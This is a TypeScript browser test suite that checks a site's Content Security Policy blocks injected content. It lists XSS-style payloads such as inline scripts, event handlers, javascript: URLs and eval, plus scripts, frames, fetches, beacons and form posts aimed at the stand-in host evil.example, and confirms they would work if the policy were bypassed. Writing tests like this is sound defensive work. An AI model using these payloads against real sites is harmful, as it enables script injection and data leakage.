import { join } from "node:path";
import type { BrowserContext, Page } from "playwright-core";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { root } from "../../src/base/root.ts";
import { notInFirefox, openBrowser } from "../support/browser.ts";
import { builtSite, openSite } from "../support/realSite.ts";

const [browser, site] = await Promise.all([openBrowser(), openSite(builtSite(join(root, "test/sites/features")))]);
const policy = suite("policy");

policy.after(async () => {
  await browser.close();
  site.close();
});

const evil = "https://evil.example";

/**
 * Attempts of somebody who got into a page; run in the page. `element` adds one, `later` leaves the privileges of the
 * debugger, `arrives` waits for what the browser loads or refuses besides.
 */
const attempts: Array<[what: string, directive: RegExp | undefined, code: string]> = [
  ["a script in the page", /^script-src/, `element("script", { textContent: "pwned = 1" })`],
  ["a module in the page", /^script-src/, `element("script", { type: "module", textContent: "pwned = 1" })`],
  ["a script from another server", /^script-src/, `element("script", { src: "${evil}/a.js" })`],
  ["a script from a data address", /^script-src/, `element("script", { src: "data:text/javascript,pwned=1" })`],
  ["a script from a blob", /^script-src/, `element("script", { src: URL.createObjectURL(new Blob(["pwned = 1"])) })`],
  [
    "a script that is imported",
    /^script-src/,
    `element("script", { type: "module", textContent: "import '${evil}/a.js'" })`,
  ],
  ["a handler", /^script-src/, `html("<b onclick='pwned = 1'>b</b>").click()`],
  ["a handler of a picture that fails", /^(script|img)-src/, `arrives(html("<img src='data:,' onerror='pwned = 1'>"))`],
  ["a handler of a drawing", /^script-src/, `html("<svg onload='pwned = 1'></svg>").dispatchEvent(new Event("load"))`],
  ["a link that runs", /^script-src/, `html("<a href='javascript:pwned = 1'>a</a>").click()`],
  ["a form that runs", /^(script-src|form-action)/, `html("<form action='javascript:pwned = 1'></form>").submit()`],
  ["text that is evaluated", /^script-src/, `later(() => eval("pwned = 1"))`],
  ["a function from text", /^script-src/, `later(() => new Function("pwned = 1")())`],
  ["text that a clock runs", /^script-src/, `later(() => setTimeout("pwned = 1", 1))`],
  ["WebAssembly", /^script-src/, `later(() => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])))`],
  [
    "a frame with a script, which says so to the frame alone",
    undefined,
    `arrives(html("<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>"))`,
  ],
  ["a frame of another server", /^frame-src/, `html("<iframe src='${evil}/'></iframe>")`],
  ["a frame of its own site", /^frame-src/, `html("<iframe src='/en/'></iframe>")`],
  [
    "a frame with a data address",
    /^frame-src/,
    `html("<iframe src='data:text/html,<script>parent.pwned = 1</script>'></iframe>")`,
  ],
  ["a plugin", /^object-src/, `html("<object data='${evil}/a.swf'></object>")`],
  ["an embedded file", /^object-src/, `html("<embed src='${evil}/a.pdf'>")`],
  ["a picture from another server", /^img-src/, `html("<img src='${evil}/a.png'>")`],
  ["a picture with a data address", /^img-src/, `html("<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>")`],
  ["a drawing from another server", /^img-src|^default-src/, `html("<svg><image href='${evil}/a.png'/></svg>")`],
  ["a style element", /^style-src/, `element("style", { textContent: "body { display: none }" })`],
  ["a style attribute", /^style-src/, `html("<p style='display: none'>p</p>")`],
  ["a style sheet from another server", /^style-src/, `element("link", { rel: "stylesheet", href: "${evil}/a.css" })`],
  ["a style sheet of its own site", /^style-src/, `element("link", { rel: "stylesheet", href: "/a.css" })`],
  ["a font", /^font-src/, `new FontFace("evil", "url(${evil}/a.woff2)").load().catch(() => 0)`],
  ["a film", /^media-src/, `html("<video src='${evil}/a.mp4'></video>")`],
  ["subtitles", /^media-src/, `html("<video><track default src='/a.vtt'></video>").textTracks[0].mode = "showing"`],
  ["a form that sends elsewhere", /^form-action/, `html("<form action='${evil}/' method='post'></form>").submit()`],
  ["another place for all addresses", /^base-uri/, `element("base", { href: "${evil}/" })`],
  ["a request", /^connect-src/, `fetch("${evil}/").catch(() => 0)`],
  ["a request to its own site", /^connect-src/, `fetch("/").catch(() => 0)`],
  [
    "a request in the old way",
    /^connect-src/,
    `{ const request = new XMLHttpRequest(); request.open("GET", "${evil}/"); request.onerror = () => 0; try { request.send() } catch { /* refused */ } }`,
  ],
  ["a report", /^connect-src/, `navigator.sendBeacon("${evil}/", "a")`],
  ["a socket", /^connect-src/, `new WebSocket("wss://evil.example/")`],
  ["a stream of events", /^connect-src/, `new EventSource("${evil}/")`],
  ["a link that reports", /^connect-src/, `html("<a href='#main' ping='${evil}/'>a</a>").click()`],
  ["a worker", /^worker-src/, `try { new Worker("/a.js") } catch { /* refused */ }`],
  [
    "a worker from a blob",
    /^worker-src/,
    `try { new Worker(URL.createObjectURL(new Blob(["1"]))) } catch { /* refused */ }`,
  ],
  ["a worker that stays", /^(worker|script)-src/, `navigator.serviceWorker.register("/a.js").catch(() => 0)`],
];

/** Opens a page anew and attacks it. */
async function attacked(
  page: Page,
  code: string,
  directive: RegExp | undefined,
): Promise<{ violated: string[]; pwned: boolean }> {
  await page.goto(`${site.origin}/en/everything/`);
  return page.evaluate(
    async ({ source, isTold }) => {
      const found: string[] = [];
      const isViolated = new Promise<void>((done) =>
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          found.push(effectiveDirective);
          done();
        }),
      );
      const arrivals: Array<Promise<unknown>> = [];
      const tools = {
        element: (name: string, properties: object) =>
          document.head.appendChild(Object.assign(document.createElement(name), properties)),
        html: (markup: string) => {
          const holder = document.body.appendChild(document.createElement("div"));
          holder.innerHTML = markup;
          return holder.firstElementChild;
        },
        later: (run: () => void) => void setTimeout(run, 1),
        arrives: (added: Element) =>
          void arrivals.push(
            new Promise((done) => ["load", "error"].forEach((type) => added.addEventListener(type, done))),
          ),
      };
      // The debugger may evaluate text; what runs later in the page may not.
      new Function(...Object.keys(tools), source)(...Object.values(tools));
      const inVain = new Promise((done) => setTimeout(done, 5000));
      await Promise.race([inVain, Promise.all([...arrivals, ...(isTold ? [isViolated] : [])])]);
      return { violated: found, pwned: "pwned" in window };
    },
    { source: code, isTold: directive !== undefined },
  );
}

/** Why attempts that are text run in Chromium alone. */
const CODE = "Firefox's debugger keeps to the policy of the page, and cannot be told to leave it out";

/** The other server; what it is asked for, as it is asked. */
async function other(context: BrowserContext): Promise<string[]> {
  const asked: string[] = [];
  await context.route(
    (url) => url.origin === evil,
    (route) => {
      asked.push(route.request().url());
      return route.fulfill({ body: "pwned = 1", contentType: "text/javascript" });
    },
  );
  return asked;
}

notInFirefox(policy, CODE)("each attempt to break out of a page is stopped, and the browser says so", async () => {
  const context = await browser.newContext();
  await context.addInitScript("globalThis.__name = (named) => named");
  const asked = await other(context);
  const page = await context.newPage();
  for (const [what, directive, code] of attempts) {
    const { violated, pwned } = await attacked(page, code, directive);
    assert.ok(
      directive === undefined || violated.some((name) => directive.test(name)),
      `${what}: ${violated.join(", ") || "nothing"} was violated`,
    );
    assert.is(pwned, false, what);
    assert.is(page.url().replace(/#main$/, ""), `${site.origin}/en/everything/`, what);
  }
  assert.equal(asked, []);
  await context.close();
});

notInFirefox(policy, CODE)("without the policy the same attempts would work", async () => {
  const context = await browser.newContext({ bypassCSP: true });
  await context.addInitScript("globalThis.__name = (named) => named");
  const asked = await other(context);
  for (const [what, , code] of attempts.filter(([name]) =>
    ["a script in the page", "a script from another server", "a handler", "a picture from another server"].includes(
      name,
    ),
  )) {
    const page = await context.newPage();
    await page.goto(`${site.origin}/en/everything/`);
    await page.evaluate((source) => {
      const element = (name: string, properties: object) =>
        document.head.appendChild(Object.assign(document.createElement(name), properties));
      const html = (markup: string) =>
        Object.assign(document.body.appendChild(document.createElement("div")), { innerHTML: markup })
          .firstElementChild;
      new Function("element", "html", source)(element, html);
    }, code);
    const isPicture = what.includes("picture");
    if (isPicture)
      await page.waitForFunction(
        (origin) => document.querySelector<HTMLImageElement>(`img[src^="${origin}"]`)?.complete,
        evil,
      );
    else await page.waitForFunction(() => "pwned" in window);
    assert.is(await page.evaluate(() => "pwned" in window), !isPicture, what);
    await page.close();
  }
  assert.is(asked.length, 2);
  await context.close();
});

policy("a page of the site itself violates nothing, with all that Markdown can bring", async () => {
  const context = await browser.newContext();
  const complaints: string[] = [];
  context.on(
    "console",
    (message) =>
      void (
        /Content Security Policy/.test(message.text()) && complaints.push(`${message.page()?.url()}: ${message.text()}`)
      ),
  );
  const page = await context.newPage();
  for (const address of site.pages) await page.goto(site.origin + address);
  assert.equal(complaints, []);
  await context.close();
});

policy.run();
